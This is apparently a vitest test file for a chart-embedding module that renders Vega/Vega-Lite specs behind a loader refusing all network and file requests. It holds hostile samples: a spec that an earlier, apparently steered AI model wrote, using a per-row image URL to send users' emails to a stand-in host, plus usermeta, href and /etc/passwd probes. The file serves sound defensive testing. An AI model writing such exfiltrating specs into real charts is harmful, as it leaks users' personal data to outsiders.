import { parse, View } from 'vega';
import { compile } from 'vega-lite';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { embeddableSpec, embedOptions, NO_NETWORK, refusingLoader } from './chart-embed';

const EVIL = 'https://evil.example/collect';

afterEach(() => vi.unstubAllGlobals());

describe('chart embedding', () => {
  it('refuses every URL, whichever way vega asks', async () => {
    await expect(refusingLoader.load(EVIL)).rejects.toThrow(NO_NETWORK);
    await expect(refusingLoader.sanitize(EVIL, { context: 'image' })).rejects.toThrow(NO_NETWORK);
    await expect(refusingLoader.sanitize(EVIL, { context: 'href' })).rejects.toThrow(NO_NETWORK);
    await expect(refusingLoader.http(EVIL, {})).rejects.toThrow(NO_NETWORK);
    await expect(refusingLoader.file('/etc/passwd')).rejects.toThrow(NO_NETWORK);
  });

  it('a spec with a data url and an image mark with a per-row url draws without one request', async () => {
    // What a steered model wrote before the server cleaned specs (a thread saved back then).
    const hostile = compile({
      data: { values: [{ email: 'ann@example.com', n: 1 }] },
      layer: [
        { data: { url: `${EVIL}/data.json` }, mark: 'point', encoding: { x: { field: 'n', type: 'quantitative' } } },
        {
          transform: [{ calculate: `'${EVIL}/pixel?e=' + datum.email`, as: 'pixel' }],
          mark: { type: 'image', width: 10, height: 10 },
          encoding: { url: { field: 'pixel' }, x: { field: 'n', type: 'quantitative' } },
        },
      ],
    } as never).spec;
    const fetched: string[] = [];
    vi.stubGlobal('fetch', (url: string) => {
      fetched.push(String(url));
      return Promise.reject(new Error('no network in tests'));
    });
    const asked: string[] = [];
    const loader = {
      ...refusingLoader,
      load: (uri: string) => (asked.push(uri), refusingLoader.load(uri)),
      sanitize: (uri: string, options: { context: string }) => (asked.push(uri), refusingLoader.sanitize(uri, options as never)),
    };
    const view = new View(parse(hostile), { loader, renderer: 'none', logLevel: 0 });
    await view.runAsync();
    const svg = await view.toSVG();
    view.finalize();
    // vega asked the loader for the data and for the pixel of each row, and got nothing.
    expect(asked).toContain(`${EVIL}/data.json`);
    expect(asked).toContain(`${EVIL}/pixel?e=ann@example.com`);
    expect(fetched).toEqual([]);
    // The image has no source (the URL is only in its text label, never loaded).
    expect(svg).toContain('<image');
    expect(svg).not.toMatch(/href="[^"]/);
  });

  it('embeds with the loader, the expression interpreter, text tooltips and no editor action', () => {
    const options = embedOptions(false);
    expect(options.loader).toBe(refusingLoader);
    expect(options.ast).toBe(true);
    expect(options.tooltip).toBe(false);
    expect(options.defaultStyle).toBe(false);
    expect(options.actions).toMatchObject({ editor: false, source: false, compiled: false });
  });

  it('drops usermeta (vega-embed merges its embedOptions over ours), $schema (it picks the library) and every href', () => {
    const spec = {
      $schema: 'https://vega.github.io/schema/vega/v6.json',
      usermeta: { embedOptions: { loader: { baseURL: EVIL }, actions: { editor: true }, patch: EVIL } },
      mark: { type: 'bar', href: EVIL },
      layer: [{ mark: 'point', encoding: { href: { value: EVIL }, x: { field: 'n', type: 'quantitative' } } }],
      config: { mark: { href: EVIL } },
      data: { values: [{ n: 1 }] },
    };
    expect(embeddableSpec(spec)).toEqual({
      mark: { type: 'bar' },
      layer: [{ mark: 'point', encoding: { x: { field: 'n', type: 'quantitative' } } }],
      config: { mark: {} },
      data: { values: [{ n: 1 }] },
    });
  });
});
